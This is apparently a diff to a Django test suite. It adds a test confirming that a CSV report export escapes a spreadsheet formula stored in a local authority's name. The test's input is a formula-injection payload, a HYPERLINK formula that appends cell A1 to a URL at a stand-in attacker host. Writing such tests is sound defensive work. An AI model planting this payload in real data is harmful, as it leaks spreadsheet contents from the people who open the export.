@@ -4,6 +4,7 @@ and forged or foreign ids are refused without a save."""
 
 from __future__ import annotations
 
+import csv
 import io
 from datetime import date
 from typing import Any
@@ -312,3 +313,17 @@ def test_a_report_sent_twice_alerts_once(world: World) -> None:
     assert action.reports.count() == 2
     assert FamilyRequest.objects.filter(child=agreement.case.child).count() == 2
     assert Message.objects.count() > messages_sent
+
+
+def test_report_csv_writes_a_formula_in_a_name_as_text(world: World) -> None:
+    la = world.case.child.local_authority
+    la.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    la.save()
+    with time_machine.travel(TODAY, tick=False):
+        _in_force(world)
+        response = _client(world, "case_manager").get(
+            reverse("agreements:report"),
+            {**_date("start", date(2026, 11, 1)), **_date("end", TODAY), "format": "csv"},
+        )
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert ["'" + la.name] == [cell for row in rows for cell in row if "HYPERLINK" in cell]
